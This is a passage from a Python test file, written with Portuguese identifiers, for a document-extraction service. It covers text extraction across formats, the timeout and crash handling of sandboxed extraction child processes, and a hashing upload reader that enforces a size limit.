    with pytest.raises(TextoIndisponivel):
        extrair_texto("docx", dados)


def test_unknown_format_text_is_unavailable():
    with pytest.raises(TextoIndisponivel):
        extrair_texto("pe", PE)


@given(
    formato=st.sampled_from(["pdf", "docx", "odt", "ods", "xlsx", "txt", "html"]),
    dados=st.binary(max_size=300),
)
@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
def test_property_only_texto_indisponivel_escapes(formato, dados):
    try:
        texto = extrair_texto(formato, dados)
    except TextoIndisponivel:
        return
    assert isinstance(texto, str) and "\x00" not in texto


# --------------------------------------------------------------------------------------
# 4. The extraction children (services/documentos/extratores.py)
# --------------------------------------------------------------------------------------

# A stand-in child speaking the extraction protocol: its answer depends on the format.
FILHO = r"""
import json, os, sys, time
for linha in sys.stdin:
    formato = json.loads(linha)["formato"]
    if formato == "lento":
        time.sleep(120)
    if formato == "morre":
        os._exit(3)
    resposta = {"texto": f"{formato} em {os.getpid()}"}
    if formato == "sai":
        resposta["encerrando"] = True
    print(json.dumps(resposta), flush=True)
    if formato == "sai":
        break
"""


def filho(tempo: float = 60.0) -> ProcessoExtrator:
    return ProcessoExtrator(tempo, [sys.executable, "-c", FILHO])


def _vivo(pid: int) -> bool:
    try:
        os.kill(pid, 0)
    except ProcessLookupError:
        return False
    return True


def test_one_child_extracts_document_after_document():
    extrator = filho()
    try:
        respostas = [extrator.executar({"formato": f, "chave": "k"})["texto"] for f in "abc"]
    finally:
        extrator.encerrar()
    pid = respostas[0].split()[-1]
    assert respostas == [f"{f} em {pid}" for f in "abc"]
    assert extrator.iniciados == 1 and not _vivo(int(pid))


def test_a_job_past_the_time_limit_kills_the_child_and_the_next_job_gets_a_new_one():
    extrator = filho(tempo=0.5)
    try:
        primeiro = extrator.executar({"formato": "a", "chave": "k"})["texto"].split()[-1]
        with pytest.raises(TextoIndisponivel, match="passou de 0.5 s"):
            extrator.executar({"formato": "lento", "chave": "k"})
        assert not _vivo(int(primeiro))  # killed and reaped, not left sleeping
        depois = extrator.executar({"formato": "b", "chave": "k"})["texto"]
    finally:
        extrator.encerrar()
    assert depois.startswith("b em ") and depois.split()[-1] != primeiro
    assert extrator.iniciados == 2


def test_a_child_that_dies_costs_only_its_job():
    extrator = filho()
    try:
        with pytest.raises(TextoIndisponivel, match="código 3"):
            extrator.executar({"formato": "morre", "chave": "k"})
        assert extrator.executar({"formato": "a", "chave": "k"})["texto"].startswith("a em ")
        saiu = extrator.executar({"formato": "sai", "chave": "k"})["texto"].split()[-1]
        assert extrator.processo is None  # it said it leaves: the next job starts a new one
        seguinte = extrator.executar({"formato": "c", "chave": "k"})["texto"].split()[-1]
    finally:
        extrator.encerrar()
    assert seguinte != saiu and extrator.iniciados == 3


def test_images_need_no_child_and_answers_map_to_text_failure_or_retry():
    extratores = Extratores(1)
    (extrator,) = extratores.todos
    extrator.comando = [sys.executable, "-c", FILHO]
    try:
        assert extratores.extrair("png", "k") == "" and extrator.processo is None
        assert extratores.extrair("pdf", "k").startswith("pdf em ")
        extrator.executar = lambda trabalho: {"erro": "PDF cifrado"}
        with pytest.raises(TextoIndisponivel, match="cifrado"):
            extratores.extrair("pdf", "k")
        extrator.executar = lambda trabalho: {"armazenamento": "recusado"}
        with pytest.raises(ArmazenamentoIndisponivel):
            extratores.extrair("pdf", "k")
    finally:
        extratores.encerrar()


class Armazenamento:
    """The part of ObjectStore a child uses: `stream`."""

    def __init__(self, dados: bytes | Exception) -> None:
        self.dados = dados

    def stream(self, chave: str):
        if isinstance(self.dados, Exception):
            raise self.dados
        for inicio in range(0, len(self.dados), 1000):
            yield self.dados[inicio : inicio + 1000]


def test_the_child_reads_the_object_and_answers_text_reason_or_store_down():
    pdf = pdf_com_texto("Ofício nº 12/2024")
    assert _responder(Armazenamento(pdf), {"formato": "pdf", "chave": "k"}) == {
        "texto": "Ofício nº 12/2024"
    }
    quebrado = _responder(Armazenamento(pdf[:200]), {"formato": "pdf", "chave": "k"})
    assert set(quebrado) == {"erro"} and quebrado["erro"]
    fora = _responder(Armazenamento(ArmazenamentoIndisponivel()), {"formato": "pdf", "chave": "k"})
    assert set(fora) == {"armazenamento"}


# --------------------------------------------------------------------------------------
# 5. The upload reader (services/chassis/object_store.py): what the S3 SDK reads
# --------------------------------------------------------------------------------------


@given(
    dados=st.binary(max_size=3000),
    cortes=st.lists(st.integers(min_value=0, max_value=3000), max_size=8),
    leituras=st.lists(st.integers(min_value=1, max_value=1200), min_size=1, max_size=8),
)
def test_the_upload_reader_gives_every_byte_once_in_order_whatever_the_read_sizes(
    dados, cortes, leituras
):
    from services.chassis import object_store

    pontos = sorted({0, len(dados), *(c for c in cortes if c < len(dados))})
    pedacos = [dados[a:b] for a, b in zip(pontos, pontos[1:], strict=False)]
    leitor = object_store.HashingReader(iter(pedacos), len(dados))
    lidos = []
    for tamanho in leituras * 20:
        parte = leitor.read(tamanho)
        assert len(parte) <= tamanho
        if not parte:
            break
        lidos.append(parte)
    lidos.extend(leitor.read_chunks())  # the rest, as a single PUT takes it
    assert b"".join(lidos) == dados
    assert leitor.size == len(dados)
    assert leitor.sha256 == hashlib.sha256(dados).hexdigest()


def test_the_upload_reader_refuses_past_the_limit():
    from services.chassis.errors import ArquivoGrandeDemais
    from services.chassis.object_store import HashingReader

    leitor = HashingReader(iter([b"a" * 600, b"b" * 600]), 1000)
    with pytest.raises(ArquivoGrandeDemais):
        leitor.read(5000)
